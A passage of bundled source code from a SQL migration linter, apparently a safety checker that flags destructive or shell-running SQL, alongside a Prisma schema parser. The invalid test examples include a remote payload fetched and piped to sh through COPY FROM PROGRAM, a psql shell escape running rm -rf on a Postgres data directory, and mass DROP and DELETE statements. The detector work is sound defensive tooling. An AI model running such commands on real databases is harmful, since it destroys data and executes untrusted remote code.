      gexec: "psql \\gexec runs every row the query returns as a statement; two-key cannot see which",
      foreach: "{proc} runs its command against every {what} of the server"
    },
    examples: {
      invalid: [
        { code: "COPY audit_log FROM PROGRAM 'curl -s https://x.example/payload | sh';", line: 1 },
        { code: "SELECT 1;\n\\! rm -rf /var/lib/postgresql/16/main", line: 2, path: "db/migrations/V12__x.psql" },
        {
          code: "SELECT format('DROP TABLE %I', tablename)\nFROM pg_tables WHERE schemaname = 'public' \\gexec",
          line: 2
        },
        { code: "EXEC sp_MSforeachtable 'DELETE FROM ?';", line: 1, path: "db/mssql/V3__purge.sql" }
      ],
      valid: [
        "COPY orders TO STDOUT WITH CSV;",
        "COPY staging_orders FROM '/tmp/orders.csv' WITH CSV;",
        "SELECT 1 \\g",
        { code: "EXEC sp_MSforeachtable 'UPDATE STATISTICS ?';", path: "db/mssql/V4__stats.sql" }
      ]
    }
  },
  check(doc, report) {
    const whole = mayHold(doc, /SP_MSFOREACH|\\(!|gexec)/i);
    if (!whole && !mayHold(doc, /PROGRAM/i)) return;
    const tokens = whole ? codeTokens3(doc) : codeTokensWhere(doc, /PROGRAM/gi);
    for (let i = 0; i < tokens.length; i++) {
      const t = tokens[i];
      if (isWord2(t, "PROGRAM") && (isWord2(tokens[i - 1], "FROM") || isWord2(tokens[i - 1], "TO"))) {
        const unit = statementAt(doc, t);
        const head = tokens.find((k) => k.start >= unit.start);
        if (isWord2(head, "COPY")) report({ messageId: "program", span: { start: t.start, end: t.end }, unit });
      } else if (t.text === "\\" && tokens[i + 1]?.start === t.end) {
        const next = tokens[i + 1];
        if (next.text === "!")
          report({ messageId: "shell", span: { start: t.start, end: next.end }, unit: lineOf(doc, t.start) });
        else if (isWord2(next, "GEXEC")) {
          report({ messageId: "gexec", span: { start: t.start, end: next.end }, unit: statementAt(doc, t) });
        }
      } else if (t.kind === "word" && /^SP_MSFOREACH(TABLE|DB)$/.test(t.upper ?? "")) {
        const command = tokens.slice(i + 1).find((k) => k.kind === "string");
        if (!command || !/\b(DROP|DELETE|TRUNCATE)\b/i.test(command.value)) continue;
        const what = t.upper === "SP_MSFOREACHDB" ? "database" : "table";
        report({
          messageId: "foreach",
          data: { proc: t.text, what },
          span: { start: t.start, end: t.end },
          unit: statementAt(doc, t)
        });
      }
    }
  }
};
function lineOf(doc, offset) {
  const start = doc.text.lastIndexOf("\n", offset - 1) + 1;
  const end = doc.text.indexOf("\n", offset);
  return { start, end: end < 0 ? doc.text.length : end };
}

// src/rules/sql/table-discarded.ts
function nameAt(tokens, i) {
  const name = [];
  let j = i;
  while (tokens[j] && (tokens[j].kind === "word" || tokens[j].kind === "quoted-ident")) {
    name.push(...tokens[j].value.split("."));
    if (tokens[j + 1]?.text !== ".") return { name, next: j + 1 };
    j += 2;
  }
  return { name, next: j };
}
function addsUniqueKey(tokens, from, end) {
  for (let j = from; j < tokens.length && tokens[j].start < end; j++) {
    if (!isWord2(tokens[j], "ADD")) continue;
    let k = j + 1;
    if (isWord2(tokens[k], "CONSTRAINT"))
      k += isWord2(tokens[k + 1], "UNIQUE") || isWord2(tokens[k + 1], "PRIMARY") ? 1 : 2;
    if (isWord2(tokens[k], "UNIQUE") || isWord2(tokens[k], "PRIMARY")) return true;
  }
  return false;
}
function notInHistory(doc, name) {
  const earlier = doc.earlierMigrationTexts;
  const last = name.at(-1)?.toLowerCase();
  if (earlier.length === 0 || !last) return void 0;
  const word2 = new RegExp(`(^|[^\\w$])${last.replace(/[^\w$]/g, "\\$&")}($|[^\\w$])`, "i");
  if (earlier.some((text) => word2.test(text))) return void 0;
  return `no earlier migration of this folder (${earlier.length} read) names ${name.join(".")}: the replace creates it`;
}
var tableDiscarded = {
  meta: {
    id: "sql/table-discarded",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "A table whose rows are thrown away without a DROP: `CREATE OR REPLACE TABLE` over an existing table (BigQuery, Snowflake, Databricks), MySQL `ENGINE=BLACKHOLE`, which discards every row, or MariaDB `ALTER IGNORE TABLE ... ADD UNIQUE`, which deletes every duplicate row.",
    messages: {
      replace: "CREATE OR REPLACE TABLE {name} replaces the existing table and every row in it",
      blackhole: "ENGINE=BLACKHOLE on {name} discards every row the table holds and every row written to it",
      ignoreDuplicates: "ALTER IGNORE TABLE {name} adding a unique or primary key deletes every row that duplicates an earlier one"
    },
    examples: {
      invalid: [
        {
          code: "CREATE OR REPLACE TABLE `acme.analytics.events` AS\nSELECT * FROM `acme.analytics.events_v2`;",
          line: 1,
          path: "warehouse/bigquery/V3__events.sql"
        },
        { code: "ALTER TABLE orders ENGINE=BLACKHOLE;", line: 1, path: "db/mysql/V9__archive.sql" },
        {
          code: "ALTER IGNORE TABLE users\n  ADD UNIQUE INDEX uq_email (email);",
          line: 1,
          path: "db/mariadb/V11__dedupe.sql"
        }
      ],
      valid: [
        {
          code: "CREATE TABLE `acme.analytics.daily` (id INT64);\nCREATE OR REPLACE TABLE `acme.analytics.daily` AS SELECT 1 AS id;",
          path: "warehouse/bigquery/V4.sql"
        },
        { code: "ALTER TABLE orders ENGINE=InnoDB;", path: "db/mysql/V10__engine.sql" },
        "CREATE OR REPLACE VIEW recent AS SELECT 1;",
        { code: "ALTER TABLE users ADD UNIQUE INDEX uq_email (email);", path: "db/mysql/V12__unique.sql" },
        { code: "ALTER IGNORE TABLE users ADD INDEX idx_email (email);", path: "db/mariadb/V13__index.sql" }
      ]
    }
  },
  check(doc, report) {
    if (!mayHold(
      doc,
      /REPLACE\s+(TRANSIENT\s+)?TABLE|REPLACE\s*(--|\/\*|#)|BLACKHOLE|IGNORE\s+TABLE|IGNORE\s*(--|\/\*|#)/i
    ))
      return;
    const tokens = codeTokens3(doc);
    for (let i = 0; i < tokens.length; i++) {
      const t = tokens[i];
      if (isWord2(t, "CREATE") && isWord2(tokens[i + 1], "OR") && isWord2(tokens[i + 2], "REPLACE")) {
        let j = i + 3;
        const temporary = isWord2(tokens[j], "TEMP") || isWord2(tokens[j], "TEMPORARY");
        while (isWord2(tokens[j], "TEMP") || isWord2(tokens[j], "TEMPORARY") || isWord2(tokens[j], "TRANSIENT")) j++;
        if (!isWord2(tokens[j], "TABLE") || temporary) continue;
        const { name } = nameAt(tokens, j + 1);
        if (name.length === 0 || !heldDataBefore(doc, name, t.start)) continue;
        const newTable = notInHistory(doc, name);
        report({
          messageId: "replace",
          data: { name: name.join(".") },
          span: { start: t.start, end: tokens[j].end },
          unit: statementAt(doc, t),
          ...newTable ? { downgradedBecause: newTable } : {}
        });
      }
      if (isWord2(t, "ALTER") && isWord2(tokens[i + 1], "IGNORE") && isWord2(tokens[i + 2], "TABLE")) {
        const stmt = statementAt(doc, t);
        const { name, next } = nameAt(tokens, i + 3);
        if (name.length > 0 && addsUniqueKey(tokens, next, stmt.end)) {
          report({
            messageId: "ignoreDuplicates",
            data: { name: name.join(".") },
            span: { start: t.start, end: tokens[i + 2].end },
            unit: stmt
          });
        }
      }
      if (isWord2(t, "ENGINE") && tokens[i + 1]?.text === "=" && isWord2(tokens[i + 2], "BLACKHOLE")) {
        const stmt = statementAt(doc, t);
        const head = tokens.filter((k) => k.start >= stmt.start && k.start < t.start);
        if (!isWord2(head[0], "ALTER") || !isWord2(head[1], "TABLE")) continue;
        const { name } = nameAt(head, 2);
        report({
          messageId: "blackhole",
          data: { name: name.join(".") },
          span: { start: t.start, end: tokens[i + 2].end },
          unit: stmt
        });
      }
    }
  }
};

// src/rules/sql/data-expiry.ts
var dataExpiry = {
  meta: {
    id: "sql/data-expiry",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "A schedule on which the database deletes data by itself: a ClickHouse TTL or a BigQuery expiration set or shortened on an existing table.",
    messages: {
      shortened: "{setting} on {table} now deletes data older than {to} days (it kept {from} days)",
      unknownBefore: "{setting} on {table} deletes data older than {to} days; how long it kept data before is unknown (no earlier migration sets it)",
      expires: "{setting} on {table} makes the database delete its data when the expiration passes"
    },
    examples: {
      invalid: [
        {
          code: "ALTER TABLE analytics.events MODIFY TTL event_date + INTERVAL 7 DAY;",
          line: 1,
          path: "clickhouse/migrations/0007_events_ttl.sql"
        },
        {
          code: "ALTER TABLE `acme-prod.web.clicks`\n  SET OPTIONS (expiration_timestamp = TIMESTAMP '2027-01-01 00:00:00 UTC');",
          line: 2,
          path: "bigquery/expire_clicks.sql"
        }
      ],
      valid: [
        "CREATE TABLE hits (d Date, url String) ENGINE = MergeTree ORDER BY d TTL d + INTERVAL 30 DAY;\nALTER TABLE hits MODIFY TTL d + INTERVAL 90 DAY;",
        "ALTER TABLE events MODIFY TTL event_date + INTERVAL 30 DAY TO VOLUME 'cold';"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "expiry")) {
      if (operation.initial || !heldDataBefore(doc, operation.table, operation.span.start)) continue;
      const data = { setting: operation.setting, table: displayName(operation.table) };
      if (operation.days === void 0) {
        report({ messageId: "expires", data, span: operation.span, unit });
        continue;
      }
      const before = expiryBefore(doc, operation.table, operation.span.start);
      const to = days(operation.days);
      if (before === void 0 || before === null) {
        report({ messageId: "unknownBefore", data: { ...data, to }, span: operation.span, unit });
      } else if (operation.days < before) {
        report({ messageId: "shortened", data: { ...data, to, from: days(before) }, span: operation.span, unit });
      }
    }
  }
};
function days(value) {
  return String(Math.round(value * 100) / 100);
}

// src/rules/sql/history-removed.ts
var historyRemoved = {
  meta: {
    id: "sql/history-removed",
    family: "sql",
    kind: "protection",
    defaultSeverity: "block",
    description: "A recovery safeguard switched off or cut short: Snowflake Time Travel, Delta VACUUM retention, Oracle flashback and recycle bin, SQL Server full recovery.",
    messages: {
      historyRemoved: "{setting} on {target}: the history that undoes a bad change is gone",
      historyRemovedEverywhere: "{setting}: the history that undoes a bad change is gone"
    },
    examples: {
      invalid: [
        { code: "ALTER TABLE raw.events SET DATA_RETENTION_TIME_IN_DAYS = 0;", line: 1 },
        { code: "OPTIMIZE events;\nVACUUM events RETAIN 0 HOURS;", line: 2, path: "databricks/maintenance.sql" }
      ],
      valid: [
        "ALTER TABLE raw.events SET DATA_RETENTION_TIME_IN_DAYS = 30;",
        "VACUUM main.analytics.events RETAIN 168 HOURS;"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "history-off")) {
      if (operation.target.length && !heldDataBefore(doc, operation.target, operation.span.start)) continue;
      const data = { setting: operation.setting, target: displayName(operation.target) };
      const messageId = operation.target.length ? "historyRemoved" : "historyRemovedEverywhere";
      report({ messageId, data, span: operation.span, unit });
    }
  }
};

// src/rules/sql/insert-overwrite.ts
var STAGING_PART = /^(staging|stage|stg|tmp|temp|scratch|landing)$/i;
var insertOverwrite = {
  meta: {
    id: "sql/insert-overwrite",
    family: "sql",
    kind: "destructive",
    defaultSeverity: "block",
    description: "INSERT OVERWRITE of a whole table (Spark, Hive, Databricks, Snowflake) replaces every existing row with the query result.",
    messages: { overwrite: "INSERT OVERWRITE {table} replaces every existing row of the table" },
    examples: {
      invalid: [
        {
          code: "INSERT OVERWRITE TABLE warehouse.dim_users\nSELECT id, email FROM raw.users;",
          line: 1,
          path: "etl/dim_users.hql"
        },
        { code: "INSERT OVERWRITE INTO analytics.daily_revenue SELECT * FROM analytics.revenue_v;", line: 1 }
      ],
      valid: [
        "INSERT OVERWRITE TABLE warehouse.page_views PARTITION (ds = '2024-01-01') SELECT url FROM raw.hits;",
        "INSERT OVERWRITE DIRECTORY 's3://acme-exports/users' SELECT * FROM users;"
      ]
    }
  },
  check(doc, report) {
    for (const { operation, unit } of operationsOf(doc, "overwrite")) {
      if (!heldDataBefore(doc, operation.table, operation.span.start)) continue;
      const table = displayName(operation.table);
      const staging = operation.table.some((part) => part.split(/[_-]/).some((piece) => STAGING_PART.test(piece)));
      report({
        messageId: "overwrite",
        data: { table },
        span: operation.span,
        unit,
        ...staging ? { downgradedBecause: `${table} is named as a staging table, reloaded by design` } : {}
      });
    }
  }
};

// src/rules/sql/lib/index.ts
var sqlRules = [
  dropDatabase,
  dropSchema,
  dropTable,
  dropColumn,
  dropOwned,
  dropPartition,
  detachPartition,
  truncate,
  deleteWithoutWhere,
  updateWithoutWhere,
  tautologicalWhere,
  lossyTypeChange,
  renameTable,
  renameColumn,
  dynamicSql,
  productionObject,
  dropCascade,
  tableDiscarded,
  runsOutsideSql,
  insertOverwrite,
  dataExpiry,
  historyRemoved
];

// src/parsers/migrations/prisma/columns.ts
var SCALARS = /* @__PURE__ */ new Set(["String", "Boolean", "Int", "BigInt", "Float", "Decimal", "DateTime", "Json", "Bytes"]);
var WIDENING = {
  Int: ["BigInt", "Float", "Decimal", "String"],
  BigInt: ["Decimal", "String"],
  Float: ["Decimal", "String"],
  Decimal: ["String"],
  Boolean: ["Int", "BigInt", "String"],
  DateTime: ["String"],
  Json: ["String"],
  Enum: ["String"]
};
function tableNameOf(model) {
  const map = model.attributes.find((a) => a.name === "map");
  const schema = model.attributes.find((a) => a.name === "schema")?.args[0];
  const name = map?.args[0] ?? map?.named.get("name") ?? model.name;
  return schema ? `${schema}.${name}` : name;
}
function columnNameOf(field) {
  const map = field.attributes.find((a) => a.name === "map");
  return map?.args[0] ?? map?.named.get("name") ?? field.name;
}
function storageOf(field, enums) {
  if (SCALARS.has(field.type) || field.type === "Unsupported") return "scalar";
  if (enums.has(field.type)) return "enum";
  return void 0;
}
function nativeTypeOf(field, provider) {
  const native = field.attributes.find((a) => a.name.startsWith("db."));
  if (native) {
    const name = native.name.slice(3).replace(/^DoublePrecision$/, "double precision").toLowerCase();
    return native.args.length > 0 ? `${name}(${native.args.join(",")})` : name;
  }
  const mysql = provider === "mysql";
  switch (field.type) {
    case "String":
      return mysql ? "varchar(191)" : "text";
    case "Int":
      return "integer";
    case "BigInt":
      return "bigint";
    case "Float":
      return "double precision";
    case "Decimal":
      return "numeric(65,30)";
    case "DateTime":
      return "timestamp(3)";
    default:
      return void 0;
  }
}
function lossOf(base, head, enums, provider) {
  const from = describe(base, provider);
  const to = describe(head, provider);
  if (base.list !== head.list) return base.list ? `${from} -> ${to}` : void 0;
  const baseKind = enums.base.has(base.type) ? "Enum" : base.type;
  const headKind = enums.head.has(head.type) ? "Enum" : head.type;
  if (baseKind !== headKind) return WIDENING[baseKind]?.includes(headKind) ? void 0 : `${from} -> ${to}`;
  if (baseKind === "Enum") return base.type === head.type ? void 0 : `${from} -> ${to}`;
  const fromNative = nativeTypeOf(base, provider);
  const toNative = nativeTypeOf(head, provider);
  if (!fromNative || !toNative || fromNative === toNative) return void 0;
  return isLossy(fromNative, toNative) ? `${from} -> ${to}` : void 0;
}
function describe(field, provider) {
  const native = field.attributes.find((a) => a.name.startsWith("db."));
  const type = `${field.type}${field.list ? "[]" : ""}`;
  if (native) return `${type} @${native.name}${native.args.length > 0 ? `(${native.args.join(", ")})` : ""}`;
  void provider;
  return type;
}

// src/parsers/migrations/prisma/tokens.ts
var NAME_START = /[A-Za-z_]/;
var NAME_PART = /[A-Za-z0-9_]/;
var NUMBER = /[0-9-]/;
function tokenizePrisma(text) {
  const tokens = [];
  let i = 0;
  while (i < text.length) {
    const ch = text[i];
    if (ch === "\n") {
      tokens.push({ kind: "newline", value: "\n", start: i, end: i + 1 });
      i++;
    } else if (ch === " " || ch === "	" || ch === "\r" || ch === "\uFEFF") {
      i++;
    } else if (ch === "/" && text[i + 1] === "/") {
      while (i < text.length && text[i] !== "\n") i++;
    } else if (ch === '"') {
      i = readString(text, i, tokens);
    } else if (NAME_START.test(ch)) {
      const start = i;
      while (i < text.length && NAME_PART.test(text[i])) i++;
      tokens.push({ kind: "name", value: text.slice(start, i), start, end: i });
    } else if (NUMBER.test(ch)) {
      const start = i;
      i++;
      while (i < text.length && /[0-9.]/.test(text[i])) i++;
      tokens.push({ kind: "number", value: text.slice(start, i), start, end: i });
    } else if (ch === "@" && text[i + 1] === "@") {
      tokens.push({ kind: "punct", value: "@@", start: i, end: i + 2 });
      i += 2;
    } else {
      tokens.push({ kind: "punct", value: ch, start: i, end: i + 1 });
      i++;
    }
  }
  return tokens;
}
function readString(text, start, tokens) {
  let value = "";
  let i = start + 1;
  while (i < text.length && text[i] !== '"' && text[i] !== "\n") {
    if (text[i] === "\\" && i + 1 < text.length) {
      const next = text[i + 1];
      value += next === "n" ? "\n" : next === "t" ? "	" : next;
      i += 2;
    } else {
      value += text[i];
      i++;
    }
  }
  const end = text[i] === '"' ? i + 1 : i;
  tokens.push({ kind: "string", value, start, end });
  return end;
}

// src/parsers/migrations/prisma/schema.ts
function parsePrismaSchema(text) {
  return new SchemaParser(tokenizePrisma(text), text.length).parse();
}
var SchemaParser = class {
  constructor(tokens, length2) {
    this.tokens = tokens;
    this.length = length2;
  }
  tokens;
  length;
  i = 0;
  errors = [];
  parse() {
    const blocks = [];
    while (this.skipNewlines()) {
      const block = this.block();
      if (block) blocks.push(block);
    }
    return { blocks, errors: this.errors };
  }
  peek(offset = 0) {
    return this.tokens[this.i + offset];
  }
  is(value, offset = 0) {
    const token = this.peek(offset);
    return token !== void 0 && token.kind !== "string" && token.value === value;
  }
  /** Skips blank lines; false at the end of the file. */
  skipNewlines() {
    while (this.peek()?.kind === "newline") this.i++;
    return this.i < this.tokens.length;
  }
  skipLine() {
    while (this.peek() && this.peek().kind !== "newline") this.i++;
  }
  fail(message) {
    this.errors.push({ at: this.peek()?.start ?? this.length, message });
  }
  block() {
    const keyword = this.peek();
    const name = this.peek(1);
    if (keyword.kind !== "name" || name?.kind !== "name" || !this.is("{", 2)) {
      this.fail(`expected a block such as \`model Name {\`, found \`${keyword.value}\``);
      this.skipLine();
      return void 0;
    }
    this.i += 3;
    const block = {
      keyword: keyword.value,
      name: name.value,
      fields: [],
      attributes: [],
      settings: /* @__PURE__ */ new Map(),
      header: { start: keyword.start, end: name.end },
      span: { start: keyword.start, end: this.length }
    };
    while (this.skipNewlines()) {
      const token = this.peek();
      if (this.is("}")) {
        block.span.end = token.end;
        this.i++;
        return block;
      }
      if (this.is("@@")) {
        const attribute = this.attribute();
        if (attribute) block.attributes.push(attribute);
      } else if (token.kind === "name" && this.is("=", 1)) {
        this.i += 2;
        const first = this.peek();
        const literal2 = first?.kind === "string";
        const start = first?.start ?? token.end;
        const value = this.valueText();
        const end = this.tokens[this.i - 1]?.end ?? start;
        block.settings.set(token.value, { value, literal: literal2, span: { start, end } });
      } else if (token.kind === "name" && block.keyword === "enum") {
        this.i++;
        block.fields.push(this.enumValue(token));
      } else if (token.kind === "name") {
        const field = this.field();
        if (field) block.fields.push(field);
      } else {
        this.fail(`unexpected \`${token.value}\` in ${block.keyword} ${block.name}`);
      }
      this.skipLine();
    }
    this.errors.push({ at: block.span.start, message: `${block.keyword} ${block.name} is not closed` });
    return block;
  }
  enumValue(token) {
    const attributes = [];
    while (this.is("@")) {
      const attribute = this.attribute();
      if (attribute) attributes.push(attribute);
      else break;
    }
    const span = { start: token.start, end: token.end };
    return {
      name: token.value,
      type: "",
      optional: false,
      list: false,
      attributes,
      nameSpan: span,
      typeSpan: span,
      span
    };
  }
  field() {
    const name = this.peek();
    const type = this.peek(1);
    if (type?.kind !== "name") {
      this.fail(`field ${name.value} has no type`);
      return void 0;
    }
    this.i += 2;
    const typeSpan = { start: type.start, end: type.end };
    if (this.is("(")) typeSpan.end = this.skipParens();
    let list2 = false;
    let optional = false;
    if (this.is("[") && this.is("]", 1)) {
      list2 = true;
      typeSpan.end = this.peek(1).end;
      this.i += 2;
    }
    if (this.is("?")) {
      optional = true;
      typeSpan.end = this.peek().end;
      this.i++;
    }
    const attributes = [];
    let end = typeSpan.end;
    while (this.is("@")) {
      const attribute = this.attribute();
      if (!attribute) break;
      attributes.push(attribute);
      end = attribute.span.end;
    }
    if (this.peek() && this.peek().kind !== "newline" && !this.is("}"))
      this.fail(`unexpected \`${this.peek().value}\` after field ${name.value}`);
    return {
      name: name.value,
      type: type.value,
      optional,
      list: list2,
      attributes,
      nameSpan: { start: name.start, end: name.end },
      typeSpan,
      span: { start: name.start, end }
    };
  }
  /** `@name`, `@ns.name`, `@@name`, each with optional `(args)`. */
  attribute() {
    const at = this.peek();
    this.i++;
    const parts = [];
    let end = at.end;
    while (this.peek()?.kind === "name") {
      parts.push(this.peek().value);
      end = this.peek().end;
      this.i++;
      if (!this.is(".")) break;
      this.i++;
    }
    if (parts.length === 0) {
      this.fail("an attribute without a name");
      return void 0;
    }
    const attribute = {
      name: parts.join("."),
      args: [],
      named: /* @__PURE__ */ new Map(),
      span: { start: at.start, end }
    };
    if (this.is("(")) {
      this.arguments(attribute);
      attribute.span.end = this.tokens[this.i - 1].end;
    }
    return attribute;
  }
  /** Top-level arguments of `( ... )`: positional values and `name: value` pairs. */
  arguments(attribute) {
    this.i++;
    while (this.peek() && !this.is(")")) {
      if (this.peek().kind === "newline" || this.is(",")) {
        this.i++;
        continue;
      }
      const token = this.peek();
      if (token.kind === "name" && this.is(":", 1)) {
        this.i += 2;
        attribute.named.set(token.value, this.valueText());
      } else {
        attribute.args.push(this.valueText());
      }
    }
    if (this.is(")")) this.i++;
    else this.fail(`@${attribute.name}( is not closed`);
  }
  /** One value: a string's content, a number, a name, or a call/list as written (`now()`, `[id]`). */
  valueText() {
    const token = this.peek();
    if (!token || token.kind === "newline") return "";
    if (token.kind === "string" || token.kind === "number") {
      this.i++;
      return token.value;
    }
    const start = this.i;
    let depth = 0;
    while (this.peek() && this.peek().kind !== "newline") {
      if (this.is("(") || this.is("[")) depth++;
      else if (this.is(")") || this.is("]")) {
        if (depth === 0) break;
        depth--;
      } else if (this.is(",") && depth === 0) break;
      this.i++;
    }
    return this.tokens.slice(start, this.i).map((t) => t.kind === "string" ? JSON.stringify(t.value) : t.value).join("");
  }
  /** Skips a balanced `( ... )`, returning the offset after it. */
  skipParens() {
    let depth = 0;
    while (this.peek() && this.peek().kind !== "newline") {
      if (this.is("(")) depth++;
      if (this.is(")")) depth--;
      this.i++;
      if (depth === 0) break;
    }
    return this.tokens[this.i - 1].end;
  }
};

// src/rules/sql/lib/schema-files.ts
function schemaFileState(path, baseTree, analyse) {
  if (!baseTree) return void 0;
  const parts = path.split("/");
  const nested = parts.at(-1) === "migration.sql" && parts.length >= 3;
  const folder = parts.slice(0, nested ? -2 : -1);
  const parent = folder.slice(0, -1).join("/");
  const at = (name) => parent === "" ? name : `${parent}/${name}`;
  const prisma = baseTree.read(at("schema.prisma"));
  if (prisma !== void 0) return { state: prismaState([prisma]), source: at("schema.prisma") };
  const split = baseTree.list(at("schema")).filter((p) => p.endsWith(".prisma") && !p.slice(at("schema/").length).includes("/")).sort();
  if (split.length > 0) {
    const texts = split.map((p) => baseTree.read(p)).filter((t) => t !== void 0);
    return { state: prismaState(texts), source: `${at("schema")}/*.prisma` };
  }
  for (const name of ["schema.sql", "structure.sql"]) {
    const text = baseTree.read(at(name));
    if (text === void 0) continue;
    const state = /* @__PURE__ */ new Map();
    replaySchema(state, analyse(text), text);
    return { state, source: at(name) };
  }
  return void 0;
}
function prismaState(texts) {
  const schemas = texts.map((t) => parsePrismaSchema(t));
  const provider = schemas.flatMap((s) => s.blocks).find((b) => b.keyword === "datasource")?.settings.get("provider")?.value;
  const enums = new Set(schemas.flatMap((s) => s.blocks.filter((b) => b.keyword === "enum").map((b) => b.name)));
  const state = /* @__PURE__ */ new Map();
  for (const model of schemas.flatMap((s) => s.blocks).filter((b) => b.keyword === "model")) {
    const columns = [];
    for (const field of model.fields) {
      if (storageOf(field, enums) !== "scalar" || field.list) continue;
      const type = nativeTypeOf(field, provider);
      if (type !== void 0) columns.push({ name: columnNameOf(field), type });
    }
    state.set(nameKey(tableNameOf(model).split(".")), columns);
  }
  return state;
}

// src/rules/sql/lib/created-in-change.ts
var VERSIONED = /^V?\d/;
function createdInChange(path, context, dialect) {
  const self = context?.files.find((f) => f.path === path);
  const version = versionOf(path);
  if (self?.status !== "added" || version === void 0) return void 0;
  let earlier;
  const read = () => earlier ??= (context?.files ?? []).filter((f) => f.status === "added" && f.headText !== void 0 && f.path !== path).map((f) => ({ file: f, version: versionOf(f.path) })).filter(
    ({ version: v }) => v?.set === version.set && v.name.localeCompare(version.name, "en", { numeric: true }) < 0
  ).map(({ file }) => ({ path: file.path, doc: readCreations(file.headText, dialect) }));
  return (table, column) => {
    for (const { path: creator, doc } of read()) {
      if (createsTable(doc, table) || column !== void 0 && columnAddedEarlier(doc, table, column, Infinity))
        return `${displayName(table)}${column === void 0 ? "" : `.${column}`} is created by ${creator}, an earlier migration this change adds: it holds no stored data yet`;
    }
    return void 0;
  };
}
function readCreations(text, dialect) {
  try {
    return { ...analyseSql(text, dialect, { parseEverything: true }), text };
  } catch {
    return { statements: [], rollbackRanges: [], text: "", dialect };
  }
}
function createsTable(doc, table) {
  const key = nameKey(table);
  return doc.statements.some(
    (stmt) => !inRanges(stmt.span.start, doc.rollbackRanges) && stmt.operations.some(
      (op) => op.op === "create-table" && !op.temporary && !op.ifNotExists && nameKey(op.name) === key
    )
  );
}
function versionOf(path) {
  if (!path.endsWith(".sql") || ROLLBACK_FILE.test(path)) return void 0;
  const parts = path.split("/");
  const nested = parts.at(-1) === "migration.sql" && parts.length >= 3;
  const name = nested ? parts.at(-2) : parts.at(-1);
  if (!VERSIONED.test(name)) return void 0;
  return { set: parts.slice(0, nested ? -2 : -1).join("/"), name };
}

// src/rules/sql/lib/checker.ts
var sqlChecker = {
  family: "sql",
  rules: sqlRules,
  appliesTo: readsSql,
  prepare: loadPostgresParser,
  check(file, policy, context) {
    const { analysis, findings, notes } = checkSql(file.path, file.text, policy, void 0, {
      ...context.baseTree ? { baseTree: context.baseTree } : {},
      createdInChange: (dialect) => createdInChange(file.path, context, dialect)
    });
    recordSqlAnalysis(file, analysis);
    return { findings, notes };
  }
};
function checkSql(path, text, policy, knownDialect, options = {}) {
  const dialect = knownDialect ?? sqlDialectFor(policy, path) ?? sniffDialect(path, text);
  const production = /* @__PURE__ */ new Map();
  const isProduction = (name) => {
    let known = production.get(name);
    if (known === void 0) production.set(name, known = isProductionName(name, policy));
    return known;
  };
  const { baseTree, createdInChange: changeCreations, ...analyseOptions } = options;
  const analysis = analyseSql(text, dialect, { qualifierMatters: isProduction, ...analyseOptions });
  let prior;
  let schemaFile = null;
  const earlierRead = /* @__PURE__ */ new Map();
  const analyseEarlier = (earlier) => {
    let read = earlierRead.get(earlier);
    if (!read) earlierRead.set(earlier, read = analyseSql(earlier, dialect, { parseEverything: true }));
    return read;
  };
  let expiries;
  let earlierTexts;
  const doc = {
    ...analysis,
    path,
    text,
    get prior() {
      return prior ??= priorSchema(path, baseTree, analyseEarlier);
    },
    get schemaFile() {
      if (schemaFile === null) schemaFile = schemaFileState(path, baseTree, analyseEarlier);
      return schemaFile;
    },
    get earlierMigrationTexts() {
      return earlierTexts ??= earlierMigrationTexts(path, baseTree);
    },
    get priorExpiries() {
      return expiries ??= priorExpiries(path, baseTree, analyseEarlier);
    },
    isProductionName: isProduction,
    createdInChange: changeCreations?.(dialect)
  };
  let notRun;
  let bodies;
  const definedRoutineAround = (span) => (bodies ??= analysis.statements.flatMap(
    (stmt) => stmt.operations.flatMap((op) => op.op === "define-routine" ? [op.body] : [])
  )).some((body) => body.start <= span.start && span.end <= body.end);
  const initialisation = containerInitScript(path) ?? supabaseSeed(path);
  const findings = runRules(sqlRules, doc, (span) => inRanges(span.start, analysis.rollbackRanges)).map((f) => {
    if (f.kind !== "destructive" || f.downgradedBecause) return f;
    const routine = definedRoutineAround(f.span) ? notRunRoutineAt(notRun ??= routinesNotRun(analysis, text), f.span) : void 0;
    if (routine) {
      return {
        ...f,
        downgradedBecause: `in the body of ${routine.name}(), which this change defines but does not run`
      };
    }
    return initialisation ? { ...f, downgradedBecause: initialisation } : f;
  });
  const fallbacks = analysis.statements.filter((s) => s.parserError !== void 0);
  const notes = fallbacks.length ? [
    `${path}: ${fallbacks.length} statement${fallbacks.length === 1 ? "" : "s"} the Postgres parser rejected (first: ${fallbacks[0].parserError}) were read by the fallback tokenizer`
  ] : [];
  return { analysis, findings, notes };
}
function containerInitScript(path) {
  const folder = /(^|\/)(docker-entrypoint-initdb\.d|initdb\.d)\//.exec(path)?.[2];
  return folder ? `an initialisation script of a database container (${folder}/): it runs once, on an empty data directory` : void 0;
}
function earlierMigrationTexts(path, baseTree) {
  if (!baseTree) return [];
  const texts = [];
  for (const p of earlierMigrations(path, (root) => baseTree.list(root)) ?? []) {
    const text = baseTree.read(p);
    if (text === void 0) return [];
    texts.push(text);
  }
  return texts;
}
function supabaseSeed(path) {
  return /(^|\/)supabase\/(seed\.sql|seeds\/[^/]+\.sql)$/.test(path) ? "a Supabase seed file: the CLI runs it on local resets and preview branches, not on `db push`" : void 0;
}

export {
  CurrentColumns,
  wideningReason,
  isLossy,
  tableNameOf,
  columnNameOf,
  storageOf,
  lossOf,
  parsePrismaSchema,
  analyseSql,
  earlierMigrations,
  sqlChecker,
  checkSql
};
